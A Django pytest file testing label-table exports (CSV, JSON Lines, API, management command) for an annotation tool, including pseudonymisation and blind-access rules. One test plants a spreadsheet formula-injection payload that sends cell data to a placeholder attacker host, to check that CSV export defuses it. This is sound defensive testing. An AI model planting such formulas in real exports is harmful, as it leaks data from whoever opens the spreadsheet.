"""Label tables beside the dataset (issue 34): per annotation, per label with evidence, and gold, as CSV or
JSON Lines from the export page, the API and `export_dataset --format`. The dataset's rules hold: owners not
blind on any trace, pseudonyms, only submitted annotations, formula-safe CSV, a missing vote left empty."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.management import call_command
from django.urls import reverse

from annotator.models import Annotation, Assignment
from tests.factories import add_member, api_token

pytestmark = pytest.mark.django_db


def url(project, **params) -> str:
    query = "&".join(f"{k}={v}" for k, v in params.items())
    return reverse("project-export-labels", args=[project.slug]) + (f"?{query}" if query else "")


def api_url(project, **params) -> str:
    query = "&".join(f"{k}={v}" for k, v in params.items())
    return reverse("api-export-labels", args=[project.slug]) + (f"?{query}" if query else "")


def body(response) -> str:
    return b"".join(response.streaming_content).decode()


def csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def jsonl_rows(text: str) -> list[dict]:
    return [json.loads(line) for line in text.splitlines()]


def test_an_owner_downloads_one_row_per_submitted_annotation_with_pseudonyms(
    client, labelled, owner, annotator_a, annotator_b
):
    client.force_login(owner)
    response = client.get(url(labelled, kind="annotations", format="csv"))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == f'attachment; filename="{labelled.slug}-annotations.csv"'
    rows = csv_rows(body(response))
    # Ana and Ben on t1 and t2; Ana's draft on t3 is not a label.
    assert [(r["trace_id"], r["annotator"]) for r in rows] == [
        ("t1", "annotator-1"),
        ("t1", "annotator-2"),
        ("t2", "annotator-1"),
        ("t2", "annotator-2"),
    ]
    assert rows[0]["confidence"] == "4" and rows[1]["ambiguous"] == "true"
    assert rows[2]["labels"] == "FM-2.2; FM-3.3" and rows[2]["label_fm_2_2"] == "1"
    assert rows[3]["no_failure"] == "true" and rows[3]["label_fm_2_2"] == "0"
    text = body(client.get(url(labelled, kind="annotations", format="csv")))
    assert annotator_a.username not in text and annotator_b.username not in text


def test_a_confidence_never_given_stays_missing_in_both_formats(client, labelled, owner):
    client.force_login(owner)
    csv_row = csv_rows(body(client.get(url(labelled, kind="annotations", format="csv"))))[1]
    json_row = jsonl_rows(body(client.get(url(labelled, kind="annotations", format="jsonl"))))[1]
    assert csv_row["confidence"] == "" and json_row["confidence"] is None


def test_a_missing_vote_stays_missing_and_is_not_an_absent_label(client, labelled, owner, annotator_b):
    """An imported annotation with no value for FM-1.2 (MAST's NaN): empty / null, never 0 ("absent")."""
    ben_t1 = Annotation.objects.get(assignment__annotator=annotator_b, assignment__trace__external_id="t1")
    ben_t1.provenance = {"missing_modes": ["FM-1.2"]}
    ben_t1.save(update_fields=["provenance"])
    client.force_login(owner)
    csv_row = csv_rows(body(client.get(url(labelled, kind="annotations"))))[1]
    json_row = jsonl_rows(body(client.get(url(labelled, kind="annotations", format="jsonl"))))[1]
    assert csv_row["annotator"] == "annotator-2" and csv_row["label_fm_1_2"] == ""
    assert json_row["label_fm_1_2"] is None
    assert csv_row["label_fm_1_1"] == "1" and csv_row["label_fm_1_3"] == "0"  # its votes are still votes


def test_one_row_per_label_with_its_evidence(client, labelled, owner):
    client.force_login(owner)
    rows = jsonl_rows(body(client.get(url(labelled, kind="labels", format="jsonl"))))
    assert [(r["trace_id"], r["annotator"], r["mode"]) for r in rows] == [
        ("t1", "annotator-1", "FM-1.1"),
        ("t1", "annotator-2", "FM-1.1"),
        ("t2", "annotator-1", "FM-2.2"),
        ("t2", "annotator-1", "FM-3.3"),
    ]
    assert rows[1]["evidence_steps"] == [1, 2]
    assert rows[3]["quotes"] == ["all done"] and rows[3]["label_note"] == "claims success"
    without_text = jsonl_rows(
        body(client.get(url(labelled, kind="labels", format="jsonl", include_text="off")))
    )
    assert without_text[3]["quotes"] == []


def test_gold_rows_name_the_adjudicator_by_pseudonym(client, labelled, owner, adjudicator):
    client.force_login(owner)
    rows = csv_rows(body(client.get(url(labelled, kind="gold", format="csv"))))
    assert [(r["trace_id"], r["status"], r["labels"]) for r in rows] == [
        ("t1", "agreed", "FM-1.1"),
        ("t2", "resolved", "FM-2.2"),
    ]
    assert rows[1]["adjudicator"] == "adjudicator-1" and rows[1]["disputed"] == "FM-2.2; FM-3.3"
    real = csv_rows(body(client.get(url(labelled, kind="gold", real_names="on"))))
    assert real[1]["adjudicator"] == adjudicator.username


def test_a_cell_a_spreadsheet_would_run_is_defused(client, labelled, owner, annotator_a):
    Annotation.objects.filter(assignment__annotator=annotator_a, assignment__trace__external_id="t2").update(
        note='=HYPERLINK("http://evil.example/?"&A1,"open")'
    )
    client.force_login(owner)
    rows = csv_rows(body(client.get(url(labelled, kind="annotations"))))
    assert rows[2]["note"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.mark.parametrize(
    ("persona", "status"), [("annotator_a", 403), ("adjudicator", 403), ("outsider", 404)]
)
def test_who_may_not_see_others_labels_cannot_export_them(client, labelled, request, persona, status):
    client.force_login(request.getfixturevalue(persona))
    for kind in ("annotations", "labels", "gold"):
        assert client.get(url(labelled, kind=kind)).status_code == status
        assert client.get(api_url(labelled, kind=kind)).status_code == status


def test_an_owner_still_annotating_a_trace_blind_cannot_export(client, labelled, owner):
    """Blind beats every role: an owner with an unsubmitted assignment must not read the others' labels."""
    from traces.models import Trace

    add_member(labelled, owner, "annotator")
    Assignment.objects.create(project=labelled, trace=Trace.objects.get(external_id="t1"), annotator=owner)
    client.force_login(owner)
    assert client.get(url(labelled, kind="labels")).status_code == 403
    assert client.get(api_url(labelled, kind="labels", format="jsonl")).status_code == 403


def test_bad_choices_are_named_where_the_user_looks(client, labelled, owner):
    client.force_login(owner)
    page = client.get(url(labelled, kind="votes", format="xlsx"))
    assert page.status_code == 400
    text = page.content.decode()
    assert "kind &#x27;votes&#x27; is not one of annotations, labels, gold" in text and "xlsx" in text
    missing = client.get(url(labelled, batches="nope"))
    assert missing.status_code == 400 and "is not in this project" in missing.content.decode()


def test_the_api_streams_a_table_with_a_token_and_names_bad_choices(client, labelled, owner):
    token = api_token(owner)
    auth = {"HTTP_AUTHORIZATION": f"Token {token}"}
    response = client.get(api_url(labelled, kind="labels", format="jsonl"), **auth)
    assert response.status_code == 200 and response["Content-Type"].startswith("application/x-ndjson")
    assert len(jsonl_rows(body(response))) == 4
    bad = client.get(api_url(labelled, kind="everything"), **auth)
    assert bad.status_code == 400 and "everything" in bad.json()["detail"]


def test_the_command_writes_a_table_with_the_same_rules(labelled, tmp_path, capsys):
    out = tmp_path / "labels.csv"
    call_command("export_dataset", labelled.slug, "--out", str(out), "--format", "csv", "--kind", "labels")
    rows = csv_rows(out.read_text(encoding="utf-8"))
    assert {r["annotator"] for r in rows} == {"annotator-1", "annotator-2"} and len(rows) == 4
    assert "labels written to" in capsys.readouterr().out
    call_command("export_dataset", labelled.slug, "--out", "-", "--format", "jsonl", "--kind", "gold")
    assert [r["trace_id"] for r in jsonl_rows(capsys.readouterr().out)] == ["t1", "t2"]


def test_the_export_page_offers_the_label_tables(client, labelled, owner):
    client.force_login(owner)
    html = client.get(reverse("project-export", args=[labelled.slug])).content.decode()
    assert 'id="label-tables"' in html and f'action="{url(labelled)}"' in html
    assert 'name="kind"' in html and 'value="jsonl"' in html
